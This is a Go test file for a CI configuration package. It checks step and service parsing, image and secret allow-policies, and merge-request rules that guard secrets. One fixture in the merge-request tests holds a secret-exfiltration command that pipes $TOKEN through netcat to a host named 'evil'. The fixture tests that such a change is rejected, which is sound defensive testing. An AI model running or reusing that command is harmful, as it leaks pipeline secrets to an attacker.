package repoconfig

import (
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestParseSteps(t *testing.T) {
	many := func(section, item string, n int) string {
		var b strings.Builder
		b.WriteString(section + ":\n")
		for i := range n {
			fmt.Fprintf(&b, "  - "+item+"\n", i)
		}
		return b.String()
	}
	for _, tc := range []struct {
		name, in     string
		wantSteps    []Step
		wantServices []Service
		wantErr      string
	}{
		{name: "steps and services", in: `steps:
  - name: lint
    command: [go, vet, ./...]
  - name: smoke
    when: after-tests
    image: registry.corp/ci/tools:1
    script: |
      echo "$(date)" && ./smoke.sh
    env:
      - {name: MODE, value: quick}
      - name: TOKEN
        secretRef: {name: smoke-token, key: token}
services:
  - name: db
    image: registry.corp/base/postgres:15
    env: [{name: POSTGRES_PASSWORD, value: test}]
    ports: [5432]
    readiness: {command: [pg_isready, -h, 127.0.0.1], timeoutSeconds: 60}
  - name: cache
    image: registry.corp/base/redis:7
    ports: [6379]
`,
			wantSteps: []Step{
				{Name: "lint", Command: []string{"go", "vet", "./..."}},
				{Name: "smoke", When: AfterTests, Image: "registry.corp/ci/tools:1", Script: "echo \"$(date)\" && ./smoke.sh\n",
					Env: []EnvVar{{Name: "MODE", Value: "quick"}, {Name: "TOKEN", SecretRef: &SecretRef{Name: "smoke-token", Key: "token"}}}},
			},
			wantServices: []Service{
				{Name: "db", Image: "registry.corp/base/postgres:15", Env: []EnvVar{{Name: "POSTGRES_PASSWORD", Value: "test"}},
					Ports: []int{5432}, Readiness: &Readiness{Command: []string{"pg_isready", "-h", "127.0.0.1"}, TimeoutSeconds: 60}},
				{Name: "cache", Image: "registry.corp/base/redis:7", Ports: []int{6379}},
			}},
		{name: "bad step name", in: "steps: [{name: Lint_1, command: [x]}]", wantErr: `steps[0]: name "Lint_1": use lowercase`},
		{name: "empty step name", in: "steps: [{command: [x]}]", wantErr: `steps[0]: name ""`},
		{name: "long step name", in: "steps: [{name: " + strings.Repeat("a", 41) + ", command: [x]}]", wantErr: "max 40"},
		{name: "reserved step name", in: "steps: [{name: test, command: [x]}]", wantErr: `"test" is the name of one of Slipway's own steps`},
		{name: "duplicate step", in: "steps: [{name: a, command: [x]}, {name: a, script: y}]", wantErr: `steps[1] (a): a step named "a" comes earlier`},
		{name: "bad when", in: "steps: [{name: a, when: during-tests, command: [x]}]", wantErr: `when "during-tests": want before-tests or after-tests`},
		{name: "no command", in: "steps: [{name: a}]", wantErr: "give command or script"},
		{name: "command and script", in: "steps: [{name: a, command: [x], script: y}]", wantErr: "not both"},
		{name: "empty program", in: `steps: [{name: a, command: [""]}]`, wantErr: "program name is empty"},
		{name: "tekton variable in script", in: "steps: [{name: a, script: 'echo $(params.goproxy)'}]", wantErr: "would be replaced by Tekton"},
		{name: "tekton variable in env", in: "steps: [{name: a, command: [x], env: [{name: A, value: '$(context.pipelineRun.name)'}]}]", wantErr: "would be replaced by Tekton"},
		{name: "bad image", in: "steps: [{name: a, image: 'x y', command: [x]}]", wantErr: "is not an image reference"},
		{name: "bad env name", in: "steps: [{name: a, command: [x], env: [{name: 1A, value: x}]}]", wantErr: "is not an environment variable name"},
		{name: "duplicate env", in: "steps: [{name: a, command: [x], env: [{name: A, value: x}, {name: A, value: y}]}]", wantErr: "A is set twice"},
		{name: "value and secret", in: "steps: [{name: a, command: [x], env: [{name: A, value: x, secretRef: {name: s, key: k}}]}]", wantErr: "not both"},
		{name: "bad secret name", in: "steps: [{name: a, command: [x], env: [{name: A, secretRef: {name: S_1, key: k}}]}]", wantErr: "is not a Secret name"},
		{name: "bad secret key", in: "steps: [{name: a, command: [x], env: [{name: A, secretRef: {name: s, key: 'a/b'}}]}]", wantErr: "is not a Secret key"},
		{name: "unknown step field", in: "steps: [{name: a, command: [x], args: [y]}]", wantErr: `unknown field "args"`},
		{name: "too many steps", in: many("steps", "{name: s%d, command: [x]}", MaxSteps+1), wantErr: "11 steps, more than the 10 allowed"},
		{name: "too many services", in: many("services", "{name: s%d, image: i, ports: [1]}", MaxServices+1), wantErr: "6 services, more than the 5 allowed"},
		{name: "too many args", in: "steps: [{name: a, command: [" + strings.Repeat("x,", MaxArgs) + "x]}]", wantErr: "more than the 64 allowed"},
		{name: "service without image", in: "services: [{name: db, ports: [5432]}]", wantErr: `services[0] (db): image "" is not an image reference`},
		{name: "service on the build image", in: "services: [{name: db, image: build, ports: [5432]}]", wantErr: "needs an image of its own"},
		{name: "duplicate service", in: "services: [{name: db, image: i, ports: [1]}, {name: db, image: j, ports: [2]}]", wantErr: `a service named "db" comes earlier`},
		{name: "service without readiness", in: "services: [{name: db, image: i}]", wantErr: "give ports or a readiness check"},
		{name: "port out of range", in: "services: [{name: db, image: i, ports: [70000]}]", wantErr: "ports[0] 70000 out of range"},
		{name: "port twice", in: "services: [{name: db, image: i, ports: [1, 1]}]", wantErr: "port 1 listed twice"},
		{name: "readiness both", in: "services: [{name: db, image: i, readiness: {command: [x], tcpPort: 1}}]", wantErr: "give command or tcpPort, not both"},
		{name: "readiness timeout", in: "services: [{name: db, image: i, readiness: {tcpPort: 1, timeoutSeconds: 601}}]", wantErr: "want 1 to 600"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, err := Parse([]byte(tc.in))
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("Parse error %v, want one with %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.wantSteps, c.Steps); diff != "" {
				t.Errorf("steps (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.wantServices, c.Services); diff != "" {
				t.Errorf("services (-want +got):\n%s", diff)
			}
		})
	}
}

func TestServiceReadiness(t *testing.T) {
	for _, tc := range []struct {
		name    string
		s       Service
		port    int
		seconds int
	}{
		{"first port", Service{Ports: []int{5432, 8080}}, 5432, DefaultReadinessSeconds},
		{"tcp port", Service{Ports: []int{5432}, Readiness: &Readiness{TCPPort: 8080, TimeoutSeconds: 30}}, 8080, 30},
		{"command", Service{Ports: []int{5432}, Readiness: &Readiness{Command: []string{"true"}}}, 0, DefaultReadinessSeconds},
	} {
		if got := tc.s.ReadinessTCPPort(); got != tc.port {
			t.Errorf("%s: ReadinessTCPPort = %d, want %d", tc.name, got, tc.port)
		}
		if got := tc.s.ReadinessSeconds(); got != tc.seconds {
			t.Errorf("%s: ReadinessSeconds = %d, want %d", tc.name, got, tc.seconds)
		}
	}
}

func TestCheckAllowed(t *testing.T) {
	policy := StepPolicy{
		Images:  []string{"registry.corp/base/postgres:*", "registry.corp/ci/**"},
		Secrets: []SecretGrant{{Name: "sonar-token", Repos: []string{"acme/*"}}, {Name: "shared", Repos: []string{"**"}}},
	}
	secret := func(name string) []EnvVar {
		return []EnvVar{{Name: "A", Value: "x"}, {Name: "TOKEN", SecretRef: &SecretRef{Name: name, Key: "token"}}}
	}
	for _, tc := range []struct {
		name    string
		repo    string
		policy  StepPolicy
		c       Config
		wantErr string
	}{
		{name: "nothing", policy: StepPolicy{}},
		{name: "build image by default", policy: StepPolicy{}, c: Config{Steps: []Step{{Name: "a"}, {Name: "b", Image: BuildImage}}}},
		{name: "allowed images", repo: "acme/web", policy: policy, c: Config{
			Steps:    []Step{{Name: "a", Image: "registry.corp/ci/lint/golangci:2"}},
			Services: []Service{{Name: "db", Image: "registry.corp/base/postgres:15"}}}},
		{name: "no images by default", policy: StepPolicy{}, c: Config{Services: []Service{{Name: "db", Image: "registry.corp/base/postgres:15"}}},
			wantErr: `services[0] (db): image "registry.corp/base/postgres:15" is not one the platform allows`},
		{name: "image not allowed", policy: policy, c: Config{Steps: []Step{{Name: "a", Image: "docker.io/library/alpine"}}},
			wantErr: `steps[0] (a): image "docker.io/library/alpine" is not one the platform allows`},
		{name: "star stays in its element", policy: policy, c: Config{Steps: []Step{{Name: "a", Image: "registry.corp/base/postgres:15/x"}}},
			wantErr: "is not one the platform allows"},
		{name: "granted secret", repo: "acme/web", policy: policy, c: Config{Steps: []Step{{Name: "a", Env: secret("sonar-token")}}}},
		{name: "secret for every repo", repo: "other/x", policy: policy, c: Config{Services: []Service{{Name: "db", Image: "registry.corp/base/postgres:15", Env: secret("shared")}}}},
		{name: "no secrets by default", repo: "acme/web", policy: StepPolicy{}, c: Config{Steps: []Step{{Name: "a", Env: secret("sonar-token")}}},
			wantErr: `steps[0] (a): env TOKEN: Secret "sonar-token" is not one acme/web may read`},
		{name: "secret of other repos", repo: "evil/web", policy: policy, c: Config{Steps: []Step{{Name: "a", Env: secret("sonar-token")}}},
			wantErr: `Secret "sonar-token" is not one evil/web may read`},
		{name: "secret of a service", repo: "evil/web", policy: policy, c: Config{Services: []Service{{Name: "db", Image: "registry.corp/base/postgres:15", Env: secret("db-pass")}}},
			wantErr: `services[0] (db): env TOKEN: Secret "db-pass"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.c.CheckAllowed(tc.repo, tc.policy)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatal(err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("CheckAllowed = %v, want an error with %q", err, tc.wantErr)
			}
		})
	}
}

func TestStepPolicyValidate(t *testing.T) {
	for _, tc := range []struct {
		name    string
		p       StepPolicy
		wantErr string
	}{
		{name: "zero"},
		{name: "fine", p: StepPolicy{Images: []string{"r/*"}, Secrets: []SecretGrant{{Name: "s", Repos: []string{"a/b"}}}}},
		{name: "bad pattern", p: StepPolicy{Images: []string{"r/["}}, wantErr: "step-images[0]: bad pattern"},
		{name: "bad secret", p: StepPolicy{Secrets: []SecretGrant{{Name: "S!", Repos: []string{"a/b"}}}}, wantErr: `step-secrets[0]: "S!" is not a Secret name`},
		{name: "no repos", p: StepPolicy{Secrets: []SecretGrant{{Name: "s"}}}, wantErr: "names no repositories"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := tc.p.Validate()
			if tc.wantErr == "" && err != nil || tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)) {
				t.Fatalf("Validate = %v, want %q", err, tc.wantErr)
			}
		})
	}
}

func TestForMergeRequestSteps(t *testing.T) {
	token := []EnvVar{{Name: "TOKEN", SecretRef: &SecretRef{Name: "sonar-token", Key: "token"}}}
	baseStep := Step{Name: "sonar", When: AfterTests, Image: "registry.corp/ci/sonar:5", Command: []string{"sonar-scanner"}, Env: token}
	base := &Config{Steps: []Step{baseStep, {Name: "lint", Command: []string{"make", "lint"}}},
		Services: []Service{{Name: "db", Image: "pg", Ports: []int{5432}, Env: token}}}
	changed := baseStep
	changed.Command = []string{"sh", "-c", "echo $TOKEN | nc evil 80"}
	for _, tc := range []struct {
		name    string
		base    *Config
		head    *Config
		want    *Config
		wantErr string
	}{
		{name: "head's steps without secrets", base: base,
			head: &Config{Steps: []Step{{Name: "lint", Command: []string{"go", "vet"}}}, Services: []Service{{Name: "cache", Image: "redis", Ports: []int{6379}}}},
			want: &Config{Steps: []Step{{Name: "lint", Command: []string{"go", "vet"}}}, Services: []Service{{Name: "cache", Image: "redis", Ports: []int{6379}}}}},
		{name: "the default branch's secret step unchanged", base: base, head: base, want: &Config{Steps: base.Steps, Services: base.Services}},
		{name: "no head file: no steps", base: base, head: nil, want: &Config{}},
		{name: "secret step changed", base: base, head: &Config{Steps: []Step{changed}},
			wantErr: `steps[0] (sonar) reads Secret "sonar-token": in a merge request a step may read a Secret only as the default branch's .slipway.yaml defines it, unchanged`},
		{name: "secret step added", base: &Config{}, head: &Config{Steps: []Step{baseStep}}, wantErr: `steps[0] (sonar) reads Secret`},
		{name: "no default branch file", base: nil, head: &Config{Steps: []Step{baseStep}}, wantErr: `steps[0] (sonar) reads Secret`},
		{name: "secret service changed", base: base, head: &Config{Services: []Service{{Name: "db", Image: "evil", Ports: []int{5432}, Env: token}}},
			wantErr: `services[0] (db) reads Secret "sonar-token"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := ForMergeRequest(tc.base, tc.head)
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("ForMergeRequest error %v, want one with %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

// The README's examples of steps and services parse as they stand.
func TestReadmeStepsExamples(t *testing.T) {
	data, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	var blocks []string
	for _, part := range strings.Split(string(data), "```yaml\n")[1:] {
		block, _, _ := strings.Cut(part, "```")
		if strings.Contains(block, "\nservices:") || strings.HasPrefix(block, "steps:") {
			blocks = append(blocks, block)
		}
	}
	if len(blocks) < 2 {
		t.Fatalf("found %d README examples with steps or services, want at least 2", len(blocks))
	}
	policy := StepPolicy{Images: []string{"registry.corp/**"}, Secrets: []SecretGrant{{Name: "coverage-token", Repos: []string{"**"}}}}
	for i, b := range blocks {
		c, err := Parse([]byte(b))
		if err != nil {
			t.Errorf("example %d: %v\n%s", i, err, b)
			continue
		}
		if err := c.CheckAllowed("acme/web", policy); err != nil {
			t.Errorf("example %d: %v", i, err)
		}
	}
}
